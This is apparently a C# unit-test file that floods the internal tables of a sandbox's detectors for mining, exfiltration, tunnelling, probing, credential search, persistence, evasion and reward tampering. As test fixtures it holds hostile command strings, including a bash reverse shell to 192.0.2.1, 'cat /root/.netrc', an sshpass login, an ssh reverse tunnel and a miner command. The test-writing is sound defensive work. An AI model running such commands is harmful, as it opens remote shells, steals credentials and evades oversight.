using System.Globalization;
using Aurelian.Detection;
using Aurelian.Events;
using Aurelian.UnitTests.Detection.Sigma;

namespace Aurelian.UnitTests.Detection.Floods;

/// <summary>How one sandbox fills one table of a detector.</summary>
/// <param name="Table">The type and field that hold it.</param>
/// <param name="Fill">One more key.</param>
internal sealed record FloodCase(string Detector, string Table, Action<Hand, int> Fill)
{
    private const int Pids = 100_000;

    internal static IReadOnlyList<FloodCase> All { get; } =
    [
        new("mining-stratum", "MiningDetector._flows",
            (hand, key) => hand.Said($"x{key}", ProtocolNames.Stratum, "login")),
        new("mining-shape", "MiningShapeDetector._flows",
            (hand, key) => hand.Measured($"x{key}", ProtocolNames.Tls, 200)),
        new("mining-shape", "CallBurns._burns", Sampled),
        new("mining-command", "MinerCommandDetector._found",
            (hand, key) => hand.Exec("xm -o stratum+tcp://pool.example:3333", call: $"x{key}")),
        new("mining-pool-name", "PoolNameDetector._found", (hand, key) => hand.Asked($"x{key}.nanopool.org")),
        new("resource-burn", "CallBurns._burns", Sampled),
        new("resource-tuning", "TuningDetector._found",
            (hand, key) => hand.Exec("sysctl -w vm.nr_hugepages=128", call: $"x{key}")),
        new("exfiltration-bulk", "BulkDetector._pushes", (hand, key) => hand.Exec("git push", Pids + key)),
        new("exfiltration-bulk", "BulkDetector._flows",
            (hand, key) => hand.Measured($"x{key}", "http", 1, "mirror.example")),
        new("exfiltration-bulk", "BulkDetector.State.Totals",
            (hand, key) => hand.Measured("x", "http", 1, $"x{key}.example")),
        new("tunnel", "TunnelDetector._processes", (hand, key) => hand.Exec("true", Pids + key)),
        new("tunnel", "TunnelDetector._pending",
            (hand, key) => hand.Exec("ssh -N -R 8080:localhost:80 u@far.example", Pids + key)),
        new("tunnel", "TunnelDetector._inside", (hand, key) => hand.Open($"x{key}", hand.Far)),
        new("tunnel-ssh-initiative", "SshInitiativeDetector._flows",
            (hand, key) => hand.Measured($"x{key}", ProtocolNames.Ssh, 100)),
        new("tunnel-service", "TunnelServiceDetector._found", (hand, key) => hand.Asked($"x{key}.argotunnel.com")),
        new("tunnel-anonymiser", "AnonymiserDetector._found",
            (hand, key) => hand.Said("x", ProtocolNames.WireGuard, null, call: $"x{key}")),
        new("tunnel-anonymiser", "AnonymiserDetector._attempts", (hand, key) => hand.Add(new Fact.PacketRefused(
            hand.From, Hand.Outside(1000 + key), Transport.Udp, "x",
            new DatagramOpening(ProtocolNames.WireGuard, null, null, [])))),
        new("tunnel-dns", "DnsTunnelDetector._domains", (hand, key) => hand.Asked($"www.x{key}.example")),
        new("tunnel-dns", "NameInformation.Half.Labels", (hand, key) => hand.Asked(
            string.Create(CultureInfo.InvariantCulture, $"{key:x}.leak0.example"))),
        new("tunnel-icmp", "IcmpTunnelDetector._pairs",
            (hand, key) => hand.Add(new Fact.IcmpSeen(hand.From, Hand.Outside(key), 8, 56, null))),
        new("tunnel-beacon", "BeaconDetector._pairs", (hand, key) => hand.Open("x", Hand.Outside(1000 + key))),
        new("probing-internal", "ProbingDetector.State.Issued", (hand, key) =>
            hand.Asked("x.example", Hand.Outside(key).Address.ToString())),
        new("probing-scan", "TriedTargets._order", (hand, key) => hand.Connect(Hand.Outside(key << 8, 2000 + key))),
        new("probing-passwords", "PasswordDetector._pairs", (hand, key) =>
            hand.Closed("x", ProtocolNames.Ssh, Hand.Outside(1000 + key, 22), 2600, 2000)),
        new("probing-passwords", "PasswordDetector._gits",
            (hand, key) => hand.Exec("ssh git@git.example git-upload-pack", Pids + key)),
        new("probing-password-tool", "PasswordToolDetector._pairs",
            (hand, key) => hand.Exec($"sshpass -p a ssh u@x{key}.example")),
        new("metadata-access", "MetadataDetector._found", (hand, key) =>
            hand.Connect(CaptureScene.At("169.254.169.254", 80), call: $"x{key}")),
        new("credential-search", "CredentialDetector._states",
            (hand, key) => hand.Exec("cat /root/.netrc", call: $"x{key}")),
        new("persistence-place", "PersistenceDetector._managers",
            (hand, key) => hand.Exec("dpkg -i x.deb", Pids + key)),
        new("persistence-place", "PersistenceDetector._found",
            (hand, key) => hand.Wrote($"/etc/cron.d/x{key}")),
        new("evasion-refused", "EvasionDetector._found",
            (hand, key) => hand.Add(new Fact.SyscallRefused("bpf", $"x{key}"))),
        new("evasion-concealment", "ConcealmentDetector._found",
            (hand, key) => hand.Add(new Fact.EnvironmentChanged(["HISTFILE"]), call: $"x{key}")),
        new("evasion-concealment", "ConcealmentDetector._gone",
            (hand, key) => hand.Exec("x", Pids + key, deleted: true)),
        new("reward", "RewardDetector._writes", (hand, key) => hand.Wrote($"/workspace/x{key}")),
        new("reward", "GradeState._processes",
            (hand, key) => hand.Add(new Fact.ProcessForked(1), Pids + key, "grade")),
        new("reward", "GradeState._touches",
            (hand, key) => hand.Add(new Fact.FileRead("/workspace/x", null), Pids + key, "grade")),
        new("sigma", "ProcessBook._running", (hand, key) => hand.Exec("true", Pids + key)),
        new("sigma", "SigmaDetector._told",
            (hand, key) => hand.Exec("bash -i >& /dev/tcp/192.0.2.1/443 0>&1", call: $"x{key}")),
        new("sigma", "CorrelationState._windows", (hand, key) => hand.Open("x", Hand.Outside(1000 + key))),
    ];

    /// <summary>Tables in which a sandbox has one entry, or one for each of a list of ours: nobody can fill them.
    /// </summary>
    internal static IReadOnlyList<string> Few { get; } =
    [
        "BulkDetector._actors", "BulkDetector._allowed", "ProbingDetector._sandboxes", "ScanDetector._actors",
        "RewardDetector._grades", "TunnelServiceDetector._found",
    ];

    internal IDetector Create() => Detector == "sigma"
        ? new SigmaDetector(SigmaRules.Load([new SigmaFile("together.yml", Together, SigmaTrust.Contains)]))
        : DetectorSet.Standard().Detectors.Single(each => each.Name == Detector);

    private static string Together { get; } = SigmaScene.Rule(
        "selection:\n    Initiated: 'true'", category: "network_connection", name: "connects") + """

        ---
        title: Together
        name: together
        correlation:
            type: event_count
            rules: [connects]
            group-by: [DestinationIp]
            timespan: 1m
            condition:
                gte: 3
        level: high
        """;

    private static void Sampled(Hand hand, int key) =>
        hand.Add(new Fact.ResourceSampled(1, null, 1), call: $"x{key}");
}
